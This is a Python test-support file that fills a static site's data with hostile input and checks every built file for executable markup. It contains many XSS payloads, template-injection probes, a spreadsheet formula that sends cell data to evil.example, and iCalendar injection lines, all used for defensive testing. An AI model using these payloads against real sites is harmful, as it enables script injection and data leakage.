"""A hostile corpus, and a checker that reads every built file for executable markup.

Shared by tests/test_hostile.py (one hand-written corpus with every vector of
issue 8) and its hypothesis fuzzing. The checker parses what it reads (HTML
with `html.parser`, XML with ElementTree, JSON, CSV, iCalendar) instead of
searching for substrings, so an entity-encoded or mixed-case scheme is judged
the way a browser would read it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from icalendar import Calendar

from tests.conftest import Corpus

#: Template syntax whose evaluation would show as 54439 (7*7777) or 49.
TEMPLATE = "{{ 7*7777 }} {{ 7*7 }} {% raw %}rå{% endraw %} {# kommentar #} ${7*7777} #{7*7777}"
EVALUATED = "54439"

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><a href=javascript:alert(1)>x</a>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "</title><style>*{display:none}</style>",
    "]]><x/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028\u2029",
    TEMPLATE,
)
HOSTILE = " ".join(VECTORS)
#: Text that a spreadsheet would run, at the start of a value.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka") ' + HOSTILE
#: A line break and what would be a new iCalendar property if it were not escaped.
ICAL = "Möte\r\nX-INJECTED:1\nATTACH:http://evil.example/x " + HOSTILE

#: Mutation XSS: a parser that misreads <style> inside MathML would let the <img> out.
MATH = (
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    "</style></mglyph></table></mtext></math>"
)
#: Markdown that tries every way into a page.
HOSTILE_BODY = f"""\
## Sammanfattning {HOSTILE}

Text {TEMPLATE} <script>alert(1)</script> <ScRiPt>alert(1)</sCrIpT>

<img src=x onerror="alert(1)"> <IMG SRC="jav&#x09;ascript:alert(1)"> <img srcset="x 1x">

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1))
[d](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))
[e](vbscript:msgbox(1)) [f](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[g]( javascript:alert(1)) [h](java
script:alert(1)) [i](\x01javascript:alert(1))

![bild](javascript:alert(1)) ![bild2](data:image/svg+xml,<svg onload=alert(1)>)

[ref]: javascript:alert(1)
[ref2]: data:text/html,x "titel"

[referenslänk][ref] [referens2][ref2] <javascript:alert(1)> <https://example.org/ok>

<a href="javascript:alert(1)">a</a> <a href="  JAVASCRIPT:alert(1)">b</a>
<a href="jav&#x0A;ascript:alert(1)">c</a> <a href="/ok" onclick="alert(1)">d</a>

<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">
<style>body{{display:none}}</style><p style="position:fixed">s</p>
<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
{MATH}
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<details open ontoggle="alert(1)">x</details><video><source onerror="alert(1)"></video>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<h2 id="innehall">Kapning av id</h2><h2 id="sok-q">x</h2>

| rubrik {TEMPLATE} | <script>alert(1)</script> |
|---|---|
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |

```
<script>alert(1)</script> {TEMPLATE}
```
"""

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "data",
    "background",
    "cite",
    "ping",
    "manifest",
}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
FORBIDDEN_TAGS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "style",
    "base",
    "foreignobject",
    "math",
    "template",
    "noscript",
    "video",
    "audio",
    "source",
}
FORBIDDEN_ATTRIBUTES = {"style", "srcset", "formaction", "xmlns:xlink"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


def write_hostile_corpus(corpus: Corpus) -> None:
    """Every content field and every data field with hostile text, as staff could write it."""
    corpus.site.update(title=f"Insyn {HOSTILE}", description=f"Beskrivning {HOSTILE}")
    corpus.site["organisation"] = f"Kommunen {HOSTILE}"
    corpus.site["licence"] = f"CC0 {HOSTILE}"
    for org in corpus.organisations:
        org["name"] = f"{org['name']} {HOSTILE}"
        org["aliases"] = [f"Alias {HOSTILE}"]
        org["category"] = f"kategori {HOSTILE}"
        if org["type"] == "district":
            org["short_name"] = f"{org.get('short_name', org['id'])} {HOSTILE}"
            org["area"] = f"Område {HOSTILE}"
        org["website"] = 'https://example.org/"><script>alert(1)</script>?a=1&b=<x>'
    corpus.write_data()
    corpus.decision(
        "fientlig",
        body=HOSTILE_BODY,
        title=f"{ICAL} {HOSTILE}",
        meeting="2007-11-27",
        document_date="2007-11-05",
        diary_number=f"1.5-123/2007 {HOSTILE}",
        case_officer={"name": f"Handläggare {HOSTILE}", "phone": f"08 {HOSTILE}"},
        signed_by=[{"name": f"Namn {HOSTILE}", "title": f"Titel {HOSTILE}"}],
        proposals=[f"Förslag {HOSTILE}", FORMULA],
        projects=["fientligt-projekt"],
        funding=[
            {
                "from": "lansstyrelsen",
                "amount": 500000,
                "year": 2008,
                "status": "applied",
                "note": FORMULA,
            },
            {
                "from": "socialstyrelsen",
                "amount": 200000,
                "year": 2008,
                "status": "granted",
                "note": f"@SUM(1+1) {HOSTILE}",
            },
        ],
        attachments=[f"Bilaga {HOSTILE}", "-2+3"],
        outcome={"status": "approved", "note": f"+1 {HOSTILE}"},
        notes=[f"Anteckning {HOSTILE}", FORMULA],
        source='https://example.org/doc.pdf?a="><script>alert(1)</script>',
        tags=[f"tagg {HOSTILE}", "=1+1"],
        aliases=["gammal-fientlig"],
    )
    corpus.decision(
        "fientlig-kalla",
        body="Kort.\n",
        title=FORMULA,
        district="skarholmen",
        meeting="2011-05-02",
        source="assets/dokument/<script>alert(1)</script>.pdf",
        funding=[
            {
                "from": "framnas",
                "amount": 1000,
                "year": 2011,
                "status": "contributed",
                "project": "fientligt-projekt",
            }
        ],
    )
    corpus.project(
        "fientligt-projekt",
        body=HOSTILE_BODY,
        name=f"Projekt {HOSTILE}",
        owner="framnas",
        partners=["hasselby-vallingby"],
        status="ongoing",
        start="2008",
        target_groups=[f"Målgrupp {HOSTILE}", FORMULA],
        parts=[
            {
                "name": f"Del {HOSTILE}",
                "organisation": "skarholmen",
                "description": f"Beskrivning {HOSTILE}",
            }
        ],
        budget=[{"item": FORMULA, "year": 2008, "amount": 5000}],
        funding=[
            {
                "from": "framnas",
                "amount": 5000,
                "year": 2008,
                "status": "contributed",
                "note": FORMULA,
            }
        ],
        notes=[f"Notering {HOSTILE}"],
        tags=[f"tagg {HOSTILE}"],
        aliases=["gammalt-fientligt-projekt"],
    )


class _PageChecker(HTMLParser):
    """Collects every way the page could run code, as `problem` strings."""

    def __init__(self, name: str) -> None:
        super().__init__(convert_charrefs=True)
        self.name = name
        self.problems: list[str] = []
        self._script: dict[str, str | None] | None = None
        self._script_text: list[str] = []

    def problem(self, message: str) -> None:
        self.problems.append(f"{self.name}:{self.getpos()[0]}: {message}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag in FORBIDDEN_TAGS:
            self.problem(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problem(f"<{tag} {name}=...>: an event handler")
            if name in FORBIDDEN_ATTRIBUTES:
                self.problem(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and value is not None:
                self._url(tag, name, value)
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            target = (values.get("content") or "").partition("url=")[2]
            self._url(tag, "http-equiv=refresh", target)
            if not target.startswith("/"):
                self.problem(f"<meta http-equiv=refresh> to {target!r}")
        if tag == "script":
            self._script = values
            self._script_text = []
            kind = values.get("type")
            if kind == "application/ld+json":
                if "src" in values:
                    self.problem("<script type=application/ld+json src=...>")
            elif not (values.get("src") or "").startswith("/assets/"):
                self.problem(f"<script {values}>: only files from /assets/ may run")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag != "script" or self._script is None:
            return
        text = "".join(self._script_text)
        if self._script.get("type") == "application/ld+json":
            if "<" in text:
                self.problem("JSON-LD holds a raw '<'")
            try:
                json.loads(text)
            except ValueError as error:
                self.problem(f"JSON-LD is not JSON: {error}")
        elif text.strip():
            self.problem("inline script text")
        self._script = None

    def _url(self, tag: str, name: str, value: str) -> None:
        plain = _INVISIBLE.sub("", value).lower()
        scheme = _SCHEME.match(plain)
        if scheme and scheme.group(1) not in SAFE_SCHEMES:
            self.problem(f"<{tag} {name}={value!r}>: a {scheme.group(1)}: URL")


def html_problems(name: str, text: str) -> list[str]:
    checker = _PageChecker(name)
    checker.feed(text)
    checker.close()
    if checker._script is not None:
        checker.problem("<script> never closed")
    return checker.problems


def executable_markup(out: Path) -> list[str]:
    """Every problem in every file under `out`, as `path:line: what`. Empty means safe."""
    problems: list[str] = []
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        name = path.relative_to(out).as_posix()
        if name.startswith("pagefind/") and not name.endswith(".json"):
            continue  # Pagefind's own compressed index and its code
        data = path.read_bytes()
        try:
            text = data.decode("utf-8-sig")
        except UnicodeDecodeError:
            problems.append(f"{name}: not UTF-8")
            continue
        if EVALUATED in text:
            problems.append(f"{name}: template syntax was evaluated ({EVALUATED})")
        problems += file_problems(name, text)
    return problems


def file_problems(name: str, text: str) -> list[str]:
    suffix = Path(name).suffix
    if suffix == ".html":
        return html_problems(name, text)
    if suffix in (".xml", ".svg"):
        try:
            root = ElementTree.fromstring(text.encode("utf-8"))
        except ElementTree.ParseError as error:
            return [f"{name}: not well-formed XML: {error}"]
        tags = {element.tag.rpartition("}")[2].lower() for element in root.iter()}
        bad = tags & {"script", "foreignobject", *FORBIDDEN_TAGS}
        return [f"{name}: <{tag}> in XML" for tag in sorted(bad)]
    if suffix == ".json":
        try:
            json.loads(text)
        except ValueError as error:
            return [f"{name}: not JSON: {error}"]
        return []
    if suffix == ".csv":
        found = []
        for number, row in enumerate(csv.reader(io.StringIO(text), delimiter=";"), 1):
            for cell in row:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    found.append(f"{name}:{number}: a formula cell {cell[:30]!r}")
        return found
    if suffix == ".ics":
        return ics_problems(name, text)
    if name == "_redirects":
        rule = re.compile(
            r"^/(beslut|projekt)/[a-z0-9-]+/\*? /(beslut|projekt)/[a-z0-9-]+/(:splat)? 301!$"
        )
        return [
            f"{name}: unexpected line {line!r}"
            for line in text.splitlines()
            if line and not line.startswith("#") and not rule.match(line)
        ]
    return []


def ics_problems(name: str, text: str) -> list[str]:
    try:
        calendar = Calendar.from_ical(text)
    except ValueError as error:
        return [f"{name}: not iCalendar: {error}"]
    found = []
    allowed = {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "URL"}
    for event in calendar.walk("VEVENT"):
        extra = set(event.keys()) - allowed
        if extra:
            found.append(f"{name}: injected properties {sorted(extra)}")
    return found


def tree_listing(folder: Path, skip: Path | None = None) -> dict[str, tuple[int, int]]:
    """Every file and folder under `folder` (but not under `skip`), with size and mtime."""
    listing: dict[str, tuple[int, int]] = {}
    for path in sorted(folder.rglob("*")):
        if skip is not None and (path == skip or skip in path.parents):
            continue
        stat = path.stat()
        listing[path.relative_to(folder).as_posix()] = (
            stat.st_size if path.is_file() else 0,
            stat.st_mtime_ns,
        )
    return listing


def any_text(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)
